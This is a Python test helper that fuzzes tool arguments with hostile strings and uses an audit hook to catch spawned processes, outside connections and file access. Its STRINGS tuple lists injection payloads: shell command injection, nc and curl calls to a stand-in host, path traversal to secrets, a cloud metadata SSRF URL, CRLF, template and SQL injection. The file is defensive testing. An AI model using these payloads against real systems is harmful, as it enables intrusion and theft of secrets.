"""Arguments that mean harm, and an audit hook that sees what this process does because of them."""

import os
import random
import sys
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from typing import Any

MARK = "zzhostile"
"""Part of every hostile string, so that a file or host that is named by one is known by it."""

STRINGS = (
    f"; touch /tmp/{MARK}",
    f"$(touch /tmp/{MARK})",
    f"`touch /tmp/{MARK}`",
    f"| nc {MARK}.example 443",
    f"&& curl http://{MARK}.example/",
    f"--kubeconfig=/tmp/{MARK}",
    f"-oyaml --as=system:masters {MARK}",
    f"../../secrets/{MARK}",
    f"shop/../../namespaces/kube-system/secrets/{MARK}",
    f"checkout/../../secrets/{MARK}",
    f"%2e%2e%2fsecrets%2f{MARK}",
    f"checkout?dryRun=All&{MARK}",
    f"checkout#{MARK}",
    f"/etc/passwd#{MARK}",
    f"file:///tmp/{MARK}",
    f"http://169.254.169.254/latest/meta-data/{MARK}",
    f"https://{MARK}.example@127.0.0.1/",
    f"arn:aws:secretsmanager:us-east-1:123456789012:secret:{MARK}",
    f"SOURCE logGroups(namePrefix: ['/{MARK}']) | fields @message",
    f"{MARK}\x00",
    f"{MARK}\r\nX-Evil: 1",
    f"{MARK}\u202e\u200b",
    f"{{{{7*7}}}}{MARK}",
    f"' OR 1=1 -- {MARK}",
    f"__import__('os').system('touch /tmp/{MARK}')",
    MARK * 2000,
    f"*{MARK}*",
)
STRANGE: tuple[Any, ...] = (None, True, -1, 0, 2**63, 1.5, "3", [], ["a"], {}, {"$ref": MARK}, "")

SPAWNS = {
    "subprocess.Popen",
    "os.system",
    "os.exec",
    "os.posix_spawn",
    "os.spawn",
    "os.fork",
    "os.forkpty",
    "pty.spawn",
}


SANDBOX = "sandbox-github"
"""The sandbox's own git runs in threads of this name, in this process."""


@dataclass
class Seen:
    """What this process did while it was watched."""

    ports: frozenset[int]
    spawned: list[str] = field(default_factory=list)
    strangers: list[str] = field(default_factory=list)
    files: list[str] = field(default_factory=list)

    def note(self, event: str, args: tuple[Any, ...]) -> None:
        """Keep what must not happen: a process, a connection elsewhere, a file that a hostile string names."""
        if event in SPAWNS and not threading.current_thread().name.startswith(SANDBOX):
            self.spawned.append(f"{event} {args[:1]}")
        elif event in {"socket.connect", "socket.sendto"} and not self._known(args[1]):
            self.strangers.append(str(args[1]))
        elif event == "socket.getaddrinfo" and args[0] not in {"127.0.0.1", "localhost"}:
            self.strangers.append(str(args[0]))
        elif event == "open" and MARK in _text(args[0]):
            self.files.append(_text(args[0]))

    def _known(self, address: Any) -> bool:
        return isinstance(address, tuple) and address[0] == "127.0.0.1" and address[1] in self.ports


_watching: list[Seen] = []


@contextmanager
def watched(*urls: str) -> Iterator[Seen]:
    """See what this process does in the block; connections to these URLs are in order."""
    seen = Seen(frozenset(int(url.rpartition(":")[2]) for url in urls))
    _watching.append(seen)
    try:
        yield seen
    finally:
        _watching.remove(seen)


def twisted(args: dict[str, Any], chance: random.Random) -> dict[str, Any]:
    """Return good arguments with one or two of them made hostile, or one that the tool does not have."""
    bent = dict(args)
    for _ in range(chance.choice((1, 1, 2))):
        name = chance.choice([*bent, *(["command"] if not bent or chance.random() < 0.1 else [])])
        bent[name] = _hostile(chance, bent.get(name))
    return bent


def _hostile(chance: random.Random, good: Any) -> Any:
    kind = chance.random()
    if isinstance(good, dict) and kind < 0.8:
        return {**good, chance.choice([*good, MARK]): chance.choice(STRINGS)}
    if isinstance(good, str) and kind < 0.2:
        return good + chance.choice(STRINGS)
    return chance.choice(STRINGS) if kind < 0.8 else chance.choice(STRANGE)


def _hook(event: str, args: tuple[Any, ...]) -> None:
    for seen in _watching:
        seen.note(event, args)


def _text(path: Any) -> str:
    return os.fsdecode(path) if isinstance(path, str | bytes | os.PathLike) else ""


sys.addaudithook(_hook)  # for the life of the process; it does nothing while nobody watches
